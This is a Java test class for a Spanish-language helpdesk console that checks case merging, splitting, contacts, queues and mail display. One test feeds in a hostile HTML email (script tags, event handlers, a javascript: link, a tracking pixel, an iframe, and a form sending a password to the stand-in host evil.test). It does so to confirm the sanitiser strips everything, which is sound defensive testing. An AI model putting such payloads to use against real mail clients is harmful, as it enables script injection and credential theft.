package eu.jdservices.caso.console;

import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Locale;
import java.util.UUID;

import eu.jdservices.caso.cases.CaseActions;
import eu.jdservices.caso.cases.CaseDetails;
import eu.jdservices.caso.cases.CaseQuery;
import eu.jdservices.caso.cases.Cases;
import eu.jdservices.caso.cases.Direction;
import eu.jdservices.caso.cases.Status;
import eu.jdservices.caso.directory.Directory;
import eu.jdservices.caso.intake.Severity;
import eu.jdservices.caso.intake.SmtpIntake;
import eu.jdservices.caso.support.ConsoleBrowser;
import eu.jdservices.caso.support.SmtpDialogue;
import eu.jdservices.caso.support.TestMails;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.mock.web.MockHttpSession;
import org.springframework.test.web.servlet.MockMvc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;

/**
 * The case view's actions, contact details, queues and formatted mail, as the agent's
 * browser sees them.
 */
@ConsoleTest
class CaseViewTests {

	static final String CUSTOMER = "cliente@otra-empresa.test";

	@Autowired
	MockMvc mvc;

	@Autowired
	SmtpIntake intake;

	@Autowired
	Cases cases;

	@Autowired
	CaseActions actions;

	@Autowired
	Directory directory;

	ConsoleBrowser browser;

	MockHttpSession session;

	@BeforeEach
	void signIn() throws Exception {
		this.browser = new ConsoleBrowser(this.mvc);
		this.session = this.browser.signIn();
	}

	@Test
	void theSeverityFormChangesSeverityTeamAndAssignee() throws Exception {
		long number = openCase("Servidor de ficheros lento " + UUID.randomUUID(), "Tarda mucho en abrir carpetas.");
		String view = this.browser.page(get("/cases/" + number), this.session);

		MockHttpServletResponse answer = this.browser
			.response(post("/cases/" + number + "/update").param("severity", "A")
				.param("team", "Sistemas")
				.param("assignee", "marta@jd-services.eu")
				.param("_csrf", ConsoleBrowser.csrf(view)), this.session);

		assertThat(answer.getRedirectedUrl()).isEqualTo("/cases/" + number);
		CaseDetails details = this.cases.find(number).orElseThrow();
		assertThat(details.summary().severity()).isEqualTo(Severity.A);
		assertThat(details.summary().team()).isEqualTo("Sistemas");
		assertThat(details.summary().assignee()).isEqualTo("marta@jd-services.eu");
		assertThat(this.browser.page(get("/cases/" + number), this.session)).contains("Cambios guardados.", "Sistemas",
				"marta@jd-services.eu", "C -&gt; A");
	}

	@Test
	void mergingThroughTheFormMovesTheThreadToTheSurvivor() throws Exception {
		long merged = openCase("Teclado roto " + UUID.randomUUID(), "El teclado del puesto 4 no funciona.");
		long survivor = openCase("Puesto 4 averiado " + UUID.randomUUID(), "El puesto 4 tiene problemas.");
		String view = this.browser.page(get("/cases/" + merged), this.session);

		MockHttpServletResponse answer = this.browser
			.response(post("/cases/" + merged + "/merge").param("into", "#" + survivor)
				.param("_csrf", ConsoleBrowser.csrf(view)), this.session);

		assertThat(answer.getRedirectedUrl()).isEqualTo("/cases/" + survivor);
		assertThat(this.cases.find(merged).orElseThrow().summary().status()).isEqualTo(Status.CLOSED);
		assertThat(this.browser.page(get("/cases/" + survivor), this.session)).contains("Caso fusionado.",
				"El teclado del puesto 4 no funciona.", "MERGED_FROM");
	}

	@Test
	void mergingWithoutACaseNumberIsSentBackNextToTheForm() throws Exception {
		long number = openCase("Pantalla parpadea " + UUID.randomUUID(), "La pantalla parpadea.");
		String view = this.browser.page(get("/cases/" + number), this.session);

		MockHttpServletResponse answer = this.browser.response(
				post("/cases/" + number + "/merge").param("into", "abc").param("_csrf", ConsoleBrowser.csrf(view)),
				this.session);

		assertThat(answer.getStatus()).isEqualTo(422);
		assertThat(answer.getContentAsString(StandardCharsets.UTF_8)).contains("Escriba el número de un caso.");
		assertThat(this.cases.find(number).orElseThrow().summary().status()).isEqualTo(Status.OPEN);
	}

	@Test
	void mergingACaseIntoItselfShowsTheRefusal() throws Exception {
		long number = openCase("Ratón sin pilas " + UUID.randomUUID(), "El ratón no va.");
		String view = this.browser.page(get("/cases/" + number), this.session);

		MockHttpServletResponse answer = this.browser
			.response(post("/cases/" + number + "/merge").param("into", String.valueOf(number))
				.param("_csrf", ConsoleBrowser.csrf(view)), this.session);

		assertThat(answer.getRedirectedUrl()).isEqualTo("/cases/" + number);
		assertThat(this.browser.page(get("/cases/" + number), this.session))
			.contains("Un caso no se puede fusionar consigo mismo (#" + number + ")");
	}

	@Test
	void splittingTheTickedMessagesOpensANewCase() throws Exception {
		long number = openCase("Dos problemas " + UUID.randomUUID(), "Primero: la impresora.");
		this.actions.reply(number, ConsoleBrowser.ADMIN, "Nota para separar", true);
		CaseDetails.Message note = this.cases.find(number)
			.orElseThrow()
			.messages()
			.stream()
			.filter((m) -> m.direction() == Direction.NOTE)
			.findFirst()
			.orElseThrow();
		String view = this.browser.page(get("/cases/" + number), this.session);
		assertThat(view).contains("name=\"message\" value=\"" + note.id() + "\" form=\"action-split\"");

		MockHttpServletResponse answer = this.browser
			.response(post("/cases/" + number + "/split").param("message", String.valueOf(note.id()))
				.param("_csrf", ConsoleBrowser.csrf(view)), this.session);

		String created = answer.getRedirectedUrl();
		assertThat(created).startsWith("/cases/").isNotEqualTo("/cases/" + number);
		assertThat(this.browser.page(get(created), this.session)).contains("Nota para separar", "SPLIT_FROM");
	}

	@Test
	void linkingThroughTheFormShowsTheLinkOnBothCases() throws Exception {
		long one = openCase("Wifi caído " + UUID.randomUUID(), "No hay wifi.");
		long other = openCase("Router reiniciado " + UUID.randomUUID(), "El router se reinicia.");
		String view = this.browser.page(get("/cases/" + one), this.session);

		MockHttpServletResponse answer = this.browser
			.response(post("/cases/" + one + "/link").param("other", String.valueOf(other))
				.param("type", "DUPLICATE")
				.param("_csrf", ConsoleBrowser.csrf(view)), this.session);

		assertThat(answer.getRedirectedUrl()).isEqualTo("/cases/" + one);
		assertThat(this.browser.page(get("/cases/" + other), this.session)).contains("DUPLICATE",
				"href=\"/cases/" + one + "\"");
	}

	@Test
	void anAddedContactIsShownAndRecorded() throws Exception {
		long number = openCase("Alta de usuario " + UUID.randomUUID(), "Necesitamos un usuario nuevo.");
		String view = this.browser.page(get("/cases/" + number), this.session);

		MockHttpServletResponse answer = this.browser
			.response(post("/cases/" + number + "/contacts").param("email", "Jefa@Bodegas-Moncayo.es")
				.param("_csrf", ConsoleBrowser.csrf(view)), this.session);

		assertThat(answer.getRedirectedUrl()).isEqualTo("/cases/" + number);
		assertThat(this.cases.find(number).orElseThrow().summary().contacts()).contains("jefa@bodegas-moncayo.es");
		assertThat(this.browser.page(get("/cases/" + number), this.session)).contains("Contacto añadido.",
				"jefa@bodegas-moncayo.es", "CONTACT_ADDED");
	}

	@Test
	void anInvalidContactAddressIsShownNextToTheFormAndAddsNothing() throws Exception {
		long number = openCase("Baja de usuario " + UUID.randomUUID(), "Den de baja a Luis.");
		String view = this.browser.page(get("/cases/" + number), this.session);

		MockHttpServletResponse answer = this.browser
			.response(post("/cases/" + number + "/contacts").param("email", "no es un correo")
				.param("_csrf", ConsoleBrowser.csrf(view)), this.session);

		assertThat(answer.getStatus()).isEqualTo(422);
		assertThat(answer.getContentAsString(StandardCharsets.UTF_8)).contains("Esa dirección de correo no es válida.",
				"value=\"no es un correo\"");
		assertThat(this.cases.find(number).orElseThrow().summary().contacts()).containsExactly(CUSTOMER);
	}

	@Test
	void oneOfOurIntakeAddressesIsRefusedAsContact() throws Exception {
		long number = openCase("Contraseña caducada " + UUID.randomUUID(), "Me caducó la contraseña.");
		String view = this.browser.page(get("/cases/" + number), this.session);

		this.browser.response(post("/cases/" + number + "/contacts").param("email", "a@jd-services.eu")
			.param("_csrf", ConsoleBrowser.csrf(view)), this.session);

		assertThat(this.cases.find(number).orElseThrow().summary().contacts()).containsExactly(CUSTOMER);
		assertThat(this.browser.page(get("/cases/" + number), this.session))
			.contains("es una de nuestras direcciones de entrada");
	}

	@Test
	void aRemovedContactNoLongerReceivesTheCase() throws Exception {
		long number = openCase("Cambio de responsable " + UUID.randomUUID(), "Cambia el responsable.");
		this.actions.addContact(number, "otro@bodegas-moncayo.es", ConsoleBrowser.ADMIN);
		String view = this.browser.page(get("/cases/" + number), this.session);

		this.browser.response(post("/cases/" + number + "/contacts/remove").param("email", "otro@bodegas-moncayo.es")
			.param("_csrf", ConsoleBrowser.csrf(view)), this.session);

		assertThat(this.cases.find(number).orElseThrow().summary().contacts()).containsExactly(CUSTOMER);
		assertThat(this.browser.page(get("/cases/" + number), this.session)).contains("CONTACT_REMOVED");
	}

	@Test
	void theCaseViewShowsWhatTheDirectoryKnowsOfEachContact() throws Exception {
		String tag = UUID.randomUUID().toString().substring(0, 8);
		String domain = "bodegas-" + tag + ".es";
		String csv = """
				organization,domain,email,name,role,manager_email,language,phone,shared_mailbox
				Bodegas %1$s,%2$s,jefa@%2$s,Pilar Jefa,top_executive,,es,,false
				Bodegas %1$s,%2$s,eva@%2$s,Eva López,member,jefa@%2$s,en,+34 976 111 222,false
				""".formatted(tag, domain);
		assertThat(this.directory.importCsv(new StringReader(csv), Locale.ROOT).errors()).isEmpty();
		long number = openCase("eva@" + domain, "Facturas duplicadas " + tag, "Nos llegan facturas dobles.");

		String view = this.browser.page(get("/cases/" + number), this.session);

		assertThat(view).contains("Eva López", "+34 976 111 222", "jefa@" + domain,
				"Pilar Jefa &lt;jefa@" + domain + "&gt;", "Máximo responsable de la organización");
	}

	@Test
	void mineListsOnlyTheCasesAssignedToTheSignedInAgent() throws Exception {
		long mine = openCase("Caso mío " + UUID.randomUUID(), "Para el administrador.");
		long theirs = openCase("Caso de otro " + UUID.randomUUID(), "Para otra persona.");
		this.actions.update(mine, ConsoleBrowser.ADMIN, null, "Sistemas", ConsoleBrowser.ADMIN);
		this.actions.update(theirs, ConsoleBrowser.ADMIN, null, "Redes", "otro@jd-services.eu");

		String queue = this.browser.page(get("/cases?mine=true"), this.session);

		assertThat(queue).contains("href=\"/cases/" + mine + "\"").doesNotContain("href=\"/cases/" + theirs + "\"");
		assertThat(this.browser.page(get("/cases?team=Redes&assignee=otro@jd-services.eu"), this.session))
			.contains("href=\"/cases/" + theirs + "\"")
			.doesNotContain("href=\"/cases/" + mine + "\"");
	}

	@Test
	void theQueueShowsHowManyCasesAreInEachStatus() throws Exception {
		openCase("Caso contado " + UUID.randomUUID(), "Cuenta.");
		long open = this.cases.countByStatus(new CaseQuery(null, null, null, null, null, null, 0, 1)).get(Status.OPEN);

		String queue = this.browser.page(get("/cases?status=CLOSED"), this.session);

		assertThat(open).isPositive();
		assertThat(queue).contains("id=\"count-OPEN\">" + open + "<", "id=\"count-CLOSED\"");
	}

	@Test
	void anHtmlMailIsShownFormattedWithoutScriptsHandlersOrRemoteImages() throws Exception {
		String subject = "Factura con formato " + UUID.randomUUID();
		String html = """
				<html><head><style>body{background:url(http://evil.test/css)}</style>
				<script>alert('x')</script></head>
				<body onload="alert(1)"><p style="color:red">Hola, <b>adjunto la factura</b>.</p>
				<img src="http://tracker.evil.test/pixel.gif?who=me" onerror="alert(2)">
				<a href="javascript:alert(3)">pulse aquí</a> <a href="https://jd-services.eu/ayuda" target="_blank">ayuda</a>
				<svg onload="alert(4)"></svg><iframe src="http://evil.test/"></iframe>
				<form action="http://evil.test/steal"><input name="password"></form></body></html>""";
		long number = openCase(CUSTOMER, subject, htmlMail(subject, "Hola, adjunto la factura.", html));

		String view = this.browser.page(get("/cases/" + number), this.session);

		assertThat(view).contains("Ver con formato", "<b>adjunto la factura</b>",
				"<a href=\"https://jd-services.eu/ayuda\" rel=\"noopener noreferrer nofollow\">ayuda</a>");
		assertThat(view).doesNotContain("alert(", "evil.test", "onload", "onerror", "javascript:", "<iframe", "<svg",
				"action=\"http", "style=\"color", "target=\"_blank\"");
	}

	private static byte[] htmlMail(String subject, String text, String html) {
		String boundary = "b-" + UUID.randomUUID();
		String mail = "From: Cliente <" + CUSTOMER + ">\r\n" + "To: c@jd-services.eu\r\n" + "Subject: " + subject
				+ "\r\n" + "Date: Wed, 25 Nov 2026 11:40:00 +0100\r\n" + "Message-ID: <" + TestMails.newMessageId()
				+ ">\r\n" + "MIME-Version: 1.0\r\n" + "Content-Type: multipart/alternative; boundary=\"" + boundary
				+ "\"\r\n\r\n" + "--" + boundary + "\r\nContent-Type: text/plain; charset=UTF-8\r\n\r\n" + text
				+ "\r\n--" + boundary + "\r\nContent-Type: text/html; charset=UTF-8\r\n\r\n"
				+ html.replace("\n", "\r\n") + "\r\n--" + boundary + "--\r\n";
		return mail.getBytes(StandardCharsets.UTF_8);
	}

	@Test
	void eachCustomerMailShowsWhetherItsSenderWasAuthenticated() throws Exception {
		String subject = "Correo con remitente autenticado " + UUID.randomUUID();
		long authenticated = openCase(CUSTOMER, subject,
				TestMails.from("Cliente <" + CUSTOMER + ">")
					.to("c@jd-services.eu")
					.subject(subject)
					.header("Authentication-Results",
							"mx.jd-services.eu; spf=pass smtp.mailfrom=otra-empresa.test;"
									+ " dmarc=pass header.from=otra-empresa.test")
					.body("El escáner no envía a la carpeta compartida.")
					.build());
		long unverified = openCase("Sin verificación " + UUID.randomUUID(), "El escáner sigue sin enviar.");

		assertThat(this.browser.page(get("/cases/" + authenticated), this.session)).contains("Remitente autenticado",
				"dmarc=pass header.from=otra-empresa.test");
		assertThat(this.browser.page(get("/cases/" + unverified), this.session)).contains("Remitente sin verificar")
			.doesNotContain("Remitente autenticado");
	}

	private long openCase(String subject, String body) throws IOException {
		return openCase(CUSTOMER, subject, TestMails.mail(TestMails.newMessageId(), "Cliente <" + CUSTOMER + ">",
				List.of("c@jd-services.eu"), List.of(), subject, body));
	}

	private long openCase(String from, String subject, String body) throws IOException {
		return openCase(from, subject,
				TestMails.mail(TestMails.newMessageId(), from, List.of("c@jd-services.eu"), List.of(), subject, body));
	}

	private long openCase(String from, String subject, byte[] mail) throws IOException {
		assertThat(SmtpDialogue.send(this.intake.port(), from, mail, "c@jd-services.eu")).startsWith("250");
		CaseQuery bySubject = new CaseQuery(null, null, null, null, subject, null, 0, 5);
		await().atMost(Duration.ofSeconds(10)).until(() -> this.cases.list(bySubject).total() == 1);
		return this.cases.list(bySubject).items().get(0).number();
	}

}
